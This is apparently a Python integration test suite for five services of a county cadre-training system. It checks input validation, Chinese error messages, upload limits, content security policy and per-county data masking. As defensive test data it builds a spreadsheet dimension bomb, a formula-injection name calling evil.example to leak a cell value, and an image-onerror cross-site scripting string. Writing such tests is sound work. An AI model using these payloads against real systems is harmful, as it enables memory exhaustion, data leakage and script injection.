"""Inputs, errors and who sees what, tried from outside against the five real services
(one deployment serving two counties A and B, real Kafka and FerretDB): the findings of
issue 14 that concern inputs — each request below answered 500, English, a live formula
or gigabytes of memory before — now answered with a clear Chinese 4xx in one shape."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date, timedelta
from pathlib import Path

import httpx
import pytest
from openpyxl import Workbook, load_workbook

from shared.contracts.selection import ClassOpened, NominationConfirmed
from tests.support import ServiceProcess, auth, eventually, publish, random_county, settings, token

pytestmark = pytest.mark.integration

SERVICES = ("selection", "teaching", "records", "followup", "dashboard")
ARTIFACTS = Path(__file__).resolve().parents[1] / "artifacts" / "inputs"
# A GET route with a path id, and a JSON route, of each service.
WITH_ID = {
    "selection": "/cadres/{}",
    "teaching": "/classes/{}/roster",
    "records": "/classes/{}/recorders",
    "followup": "/classes/{}/plan",
    "dashboard": "/api/classes/{}",
}
JSON_ROUTE = {
    "selection": ("POST", "/classes"),
    "teaching": ("POST", "/courses"),
    "records": ("POST", "/classes/c1/recorders"),
    "followup": ("PUT", "/classes/c1/plan"),
    "dashboard": None,
}
TODAY = date.today()


def id_number(area: str, born: date, seq: int) -> str:
    body = f"{area}{born:%Y%m%d}{seq:03d}"
    weights = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2]
    return body + "10X98765432"[sum(int(c) * w for c, w in zip(body, weights)) % 11]


@pytest.fixture(scope="module")
def counties():
    a = random_county()
    return a, random_county(a[:2])


@pytest.fixture(scope="module")
def services(servers, counties, tmp_path_factory):
    logs = tmp_path_factory.mktemp("inputs")
    procs = {
        name: ServiceProcess(settings(name, servers, list(counties)), log=logs / f"{name}.log")
        for name in SERVICES
    }
    try:
        for p in procs.values():
            p.start(wait=False)
        for p in procs.values():
            p.wait_ready(120)
        yield {name: p for name, p in procs.items()}
    finally:
        for p in procs.values():
            p.stop()


def shaped(r: httpx.Response, status: int, code: str | None = None) -> dict:
    """The one error shape, a Chinese message; returns the body."""
    assert r.status_code == status, (r.status_code, r.text)
    body = r.json()
    assert {"code", "message", "field"} <= body.keys(), body
    assert re.search(r"[\u4e00-\u9fff]", body["message"]), body
    assert "detail" not in body
    if code:
        assert body["code"] == code, body
    return body


def test_every_error_is_one_chinese_shape_on_every_service(services, counties):
    a, _ = counties
    dept = auth("org_department", a)
    for name, p in services.items():
        shaped(httpx.get(f"{p.url}/no/such/route", headers=dept), 404, "no_such_route")
        body = shaped(httpx.delete(f"{p.url}/healthz", headers=dept), 405, "method_not_allowed")
        assert "GET" in body["message"]
        # a NUL (and other control characters) in any path id: 422, never 500
        for bad in ("ab%00c", "x%1by", "%7f"):
            body = shaped(
                httpx.get(p.url + WITH_ID[name].format(bad), headers=dept), 422, "control_character"
            )
            assert body["field"] == "path"
        if JSON_ROUTE[name]:
            method, path = JSON_ROUTE[name]
            body = shaped(
                httpx.request(
                    method,
                    p.url + path,
                    content=b'{"title": ',
                    headers={**dept, "content-type": "application/json"},
                ),
                400,
                "unreadable_body",
            )
            big = b'{"title": "' + b"x" * (1024 * 1024) + b'"}'
            shaped(
                httpx.request(
                    method, p.url + path, content=big, headers={**dept, "content-type": "application/json"}
                ),
                413,
                "body_too_large",
            )
        shaped(httpx.get(f"{p.url}/healthz?x=%00", headers=dept), 422, "control_character")


def test_validation_names_the_field_in_chinese_and_refuses_what_the_schema_forbids(services, counties):
    a, _ = counties
    url, dept = services["selection"].url, auth("org_department", a)
    before = httpx.get(f"{url}/classes", headers=dept).json()
    r = httpx.post(
        f"{url}/classes",
        headers=dept,
        json={
            "title": "春季班",
            "capacity": 0,
            "starts_on": 0,
            "ends_on": "2026-02-30",
            "quotas": {"县财政局": False},
        },
    )
    body = shaped(r, 422, "invalid_input")
    fields = {e["field"]: e["message"] for e in body["errors"]}
    assert fields["capacity"] == "计划人数必须大于 0"
    assert fields["starts_on"].startswith("开班日期不是有效的日期")
    assert fields["ends_on"].startswith("结业日期不是有效的日期")
    assert fields["quotas"] == "各推荐单位名额必须是整数"  # a quota of false is not 0
    assert "Input should" not in body["message"] and "计划人数必须大于 0" in body["message"]
    r = httpx.post(
        f"{url}/classes",
        headers=dept,
        json={"title": "春季班", "capacity": True, "starts_on": "2026-03-01", "ends_on": "2026-03-05"},
    )
    assert shaped(r, 422)["errors"][0]["message"] == "计划人数必须是整数"
    assert httpx.get(f"{url}/classes", headers=dept).json() == before, "nothing stored by a refusal"


def test_a_nul_in_a_name_is_refused_and_nothing_is_stored(services, counties):
    a, _ = counties
    url, dept = services["selection"].url, auth("org_department", a)
    cadre = {
        "name": "张\u0000伟",
        "id_number": id_number(a, date(1988, 3, 4), 11),
        "unit": "县财政局",
        "rank": "科员",
    }
    before = httpx.get(f"{url}/cadres", headers=dept).json()["total"]
    body = shaped(httpx.post(f"{url}/cadres", headers=dept, json=cadre), 422, "control_character")
    assert body["field"] == "name" and body["message"].startswith("姓名含有不可见的控制字符")
    assert httpx.get(f"{url}/cadres", headers=dept).json()["total"] == before


def test_unit_token_without_unit_and_feedback_of_a_bad_code_answer_4xx(services, counties):
    a, _ = counties
    shaped(httpx.get(f"{services['selection'].url}/cadres", headers=auth("unit", a)), 403, "unit_missing")
    body = shaped(
        httpx.get(f"{services['teaching'].url}/feedback/0", headers=auth("org_department", a)),
        422,
        "bad_jurisdiction",
    )
    assert body["field"] == "jurisdiction"


def _huge_dimension_xlsx() -> bytes:
    """The 1.8 KB attack: a registry with one good row, whose sheet declares the widest
    and tallest dimension Excel has and holds one cell in its last row and column."""
    wb = Workbook()
    ws = wb.active
    ws.append(["姓名", "身份证号", "工作单位", "职级"])
    ws.append(["张伟", "11010519900501123X", "县财政局", "科员"])
    buf = io.BytesIO()
    wb.save(buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                text = re.sub(
                    r'<dimension ref="[^"]*"\s*/>', '<dimension ref="A1:XFD1048576"/>', data.decode()
                )
                assert "XFD1048576" in text
                text = text.replace(
                    "</sheetData>",
                    '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t>'
                    "</is></c></row></sheetData>",
                )
                data = text.encode()
            z.writestr(item, data)
    return out.getvalue()


def _peak_rss_mb(p: ServiceProcess) -> float:
    status = Path(f"/proc/{p.proc.pid}/status").read_text()
    return int(re.search(r"VmHWM:\s+(\d+) kB", status).group(1)) / 1024


def test_spreadsheets_are_read_within_bounds(services, counties):
    a, _ = counties
    sel = services["selection"]
    url, dept = sel.url, auth("org_department", a)
    before = httpx.get(f"{url}/cadres", headers=dept).json()["total"]
    bomb = _huge_dimension_xlsx()
    assert len(bomb) < 8192
    body = shaped(
        httpx.post(
            f"{url}/cadres/import",
            headers=dept,
            timeout=60,
            files={"file": ("名册.xlsx", bomb, "application/octet-stream")},
        ),
        422,
        "too_many_rows",
    )
    assert "50000 行" in body["message"]
    peak = _peak_rss_mb(sel)
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    (ARTIFACTS / "huge-dimension-peak-rss.txt").write_text(
        f"selection peak RSS after the huge-dimension workbook: {peak:.0f} MB\n"
    )
    assert peak < 600, f"the service's peak memory reached {peak:.0f} MB"
    # a wide row is refused, naming the row
    wide = "姓名,身份证号,工作单位,职级" + ",x" * 70 + "\n"
    body = shaped(
        httpx.post(
            f"{url}/cadres/import", headers=dept, files={"file": ("名册.csv", wide.encode(), "text/csv")}
        ),
        422,
        "too_many_columns",
    )
    assert "第 1 行" in body["message"]
    # a control character in a cell
    bad = "姓名,身份证号,工作单位,职级\n张\x00伟,11010519900501123X,县财政局,科员\n"
    body = shaped(
        httpx.post(
            f"{url}/cadres/import", headers=dept, files={"file": ("名册.csv", bad.encode(), "text/csv")}
        ),
        422,
        "control_character",
    )
    assert "第 2 行 A 列" in body["message"]
    # an upload over the limit is refused before it is read (413), on teaching too
    big = b"x" * (21 * 1024 * 1024)
    for svc, path in (("selection", "/cadres/import"), ("teaching", "/online-hours")):
        shaped(
            httpx.post(
                services[svc].url + path,
                headers=dept,
                timeout=60,
                files={"file": ("大.csv", big, "text/csv")},
            ),
            413,
            "body_too_large",
        )
    assert httpx.get(f"{url}/cadres", headers=dept).json()["total"] == before


async def test_a_name_that_looks_like_a_formula_stays_text_in_excel(services, counties):
    a, _ = counties
    url, dept = services["selection"].url, auth("org_department", a)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
    cadre = {
        "name": evil,
        "id_number": id_number(a, date(1985, 6, 7), 21),
        "unit": "@SUM(1+1)",
        "rank": "科员",
    }
    assert httpx.post(f"{url}/cadres", headers=dept, json=cadre).status_code == 201

    async def listed():
        unit = {"unit": "@SUM(1+1)"}
        return (
            httpx.get(f"{url}/cadres", params={**unit, "format": "xlsx"}, headers=dept)
            if httpx.get(f"{url}/cadres", params=unit, headers=dept).json()["total"] == 1
            else None
        )

    x = await eventually(listed)
    sheet = zipfile.ZipFile(io.BytesIO(x.content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet, "no formula in the sheet"
    cells = {c.value: c for row in load_workbook(io.BytesIO(x.content)).active.iter_rows() for c in row}
    assert cells[evil].data_type == "s" and cells[evil].quotePrefix
    assert cells["@SUM(1+1)"].data_type == "s"


def test_html_has_a_csp_and_docs_work_without_internet(services, counties):
    a, _ = counties
    page = httpx.get(services["dashboard"].url + "/")
    assert "script-src 'self'" in page.headers["content-security-policy"]
    for name, p in services.items():
        docs = httpx.get(p.url + "/docs")
        assert docs.status_code == 200 and "default-src 'self'" in docs.headers["content-security-policy"]
        assert "cdn" not in docs.text.lower()
        for src in re.findall(r'(?:src|href)="(/docs/assets/[^"]+)"', docs.text):
            asset = httpx.get(p.url + src)
            assert asset.status_code == 200 and len(asset.content) > 100, src
        schema = httpx.get(p.url + "/openapi.json").json()
        assert schema["components"]["securitySchemes"]["bearer"]["scheme"] == "bearer"
        for path, ops in schema["paths"].items():
            for method, op in ops.items():
                if path not in ("/healthz", "/readyz"):
                    assert {"401", "403", "404", "413", "422"} <= op["responses"].keys(), (name, method, path)


async def test_the_dashboard_page_does_not_run_what_the_address_carries(services, counties):
    from playwright.async_api import async_playwright

    a, _ = counties
    url = services["dashboard"].url
    hostile = '"><img src=x onerror="window.__xss=1">'
    async with async_playwright() as p:
        browser = await p.chromium.launch(
            executable_path="/usr/bin/chromium", args=["--headless", "--no-sandbox", "--disable-gpu"]
        )
        try:
            page = await browser.new_page()
            for q in ("year", "policy", "jurisdiction"):
                await page.goto(
                    f"{url}/?{q}={httpx.QueryParams({q: hostile})[q]}#token={token('org_department', a)}"
                )
                await page.wait_for_function("() => document.getElementById('year').options.length > 0")
                await page.wait_for_timeout(300)
                assert await page.evaluate("window.__xss") is None, q
                assert await page.eval_on_selector_all("img", "els => els.length") == 0, q
        finally:
            await browser.close()


async def test_docs_render_from_the_service_itself_under_its_csp(services):
    from playwright.async_api import async_playwright

    url = services["selection"].url
    async with async_playwright() as p:
        browser = await p.chromium.launch(
            executable_path="/usr/bin/chromium", args=["--headless", "--no-sandbox", "--disable-gpu"]
        )
        try:
            page = await browser.new_page()
            foreign, refused = [], []
            page.on(
                "request", lambda r: foreign.append(r.url) if not r.url.startswith((url, "data:")) else None
            )
            page.on(
                "console", lambda m: refused.append(m.text) if "Content Security Policy" in m.text else None
            )
            await page.goto(url + "/docs")
            await page.wait_for_selector("text=开设班次", timeout=30_000)  # an operation's Chinese summary
            assert foreign == [] and refused == []
        finally:
            await browser.close()


# long: one story end to end against real servers; its steps share the state they build
async def test_who_sees_what(services, counties, servers):
    a, b = counties
    sel, tea = services["selection"].url, services["teaching"].url
    dept_a, dept_b = auth("org_department", a), auth("org_department", b)
    number = id_number(a, date(1990, 5, 1), 123)
    cadre = {"name": "李娜", "id_number": number, "unit": "县发改委", "rank": "科员"}
    cadre_id = httpx.post(f"{sel}/cadres", headers=dept_a, json=cadre).json()["cadre_id"]

    async def entry(who):
        r = httpx.get(f"{sel}/cadres", params={"unit": "县发改委"}, headers=who).json()
        return r["items"][0] if r.get("total") else None

    full = await eventually(lambda: entry(dept_a))
    assert full["birth_date"] == "1990-05-01"
    # masks hide what they claim: no birth date or gender beside a masked number
    clerk = await entry(auth("unit", a, unit="县发改委"))
    assert clerk["id_number"] == number[:6] + "********" + number[-4:]
    assert "birth_date" not in clerk and "gender" not in clerk and clerk["name"] == "李娜"
    analyst = await entry(auth("analyst", a))
    assert "李娜" not in str(analyst) and number[-4:] not in str(analyst) and "1990" not in str(analyst)
    # another county learns nothing about where a 身份证号 is registered
    r = httpx.post(f"{sel}/cadres", headers=dept_b, json=cadre)
    body = shaped(r, 403, "registered_elsewhere")
    assert a not in body["message"]
    csv = f"姓名,身份证号,工作单位,职级\n李娜,{number},县发改委,科员\n".encode()
    report = httpx.post(
        f"{sel}/cadres/import", headers=dept_b, files={"file": ("名册.csv", csv, "text/csv")}
    ).json()
    assert report["errors"] and a not in str(
        report["errors"][0]["errors"]
    )  # its own number comes back masked
    shaped(httpx.get(f"{sel}/cadres/{cadre_id}", headers=dept_b), 404, "cadre_not_found")

    # a class with one confirmed trainee of county A (selection's facts on its topic)
    class_id = f"c-{a}-1"
    await publish(
        servers.kafka,
        "selection",
        a,
        f"class-{class_id}",
        [
            ClassOpened(
                class_id=class_id,
                title="春季班",
                capacity=30,
                starts_on=TODAY,
                ends_on=TODAY + timedelta(days=5),
                organiser="县委党校",
            ),
            NominationConfirmed(class_id=class_id, cadre_id=cadre_id, name="李娜", unit="县发改委"),
        ],
    )
    r = httpx.post(
        f"{sel}/classes",
        headers=dept_a,
        json={
            "class_id": "sel-1",
            "title": "选学班",
            "capacity": 5,
            "starts_on": TODAY.isoformat(),
            "ends_on": (TODAY + timedelta(days=3)).isoformat(),
        },
    )
    assert r.status_code == 201, r.text
    await eventually(lambda: _ok(f"{sel}/classes/sel-1", dept_a))
    for role in ("trainee", "mentor", "recorder"):
        shaped(httpx.get(f"{sel}/classes/sel-1", headers=auth(role, a)), 403, "wrong_role")

    # online hours: county B cannot credit county A's trainee
    await eventually(lambda: _ok(f"{tea}/classes/{class_id}/roster", dept_a))
    hours = f"平台记录编号,干部编号,学时,学习日期\nwx-1,{cadre_id},5,{TODAY.isoformat()}\n".encode()
    body = shaped(
        httpx.post(f"{tea}/online-hours", headers=dept_b, files={"file": ("学时.csv", hours, "text/csv")}),
        422,
        "foreign_cadre",
    )
    assert cadre_id in body["message"] and a not in body["message"]
    assert (
        httpx.post(
            f"{tea}/online-hours", headers=dept_a, files={"file": ("学时.csv", hours, "text/csv")}
        ).status_code
        == 200
    )


async def _ok(url: str, headers: dict):
    r = httpx.get(url, headers=headers)
    return r if r.status_code == 200 else None
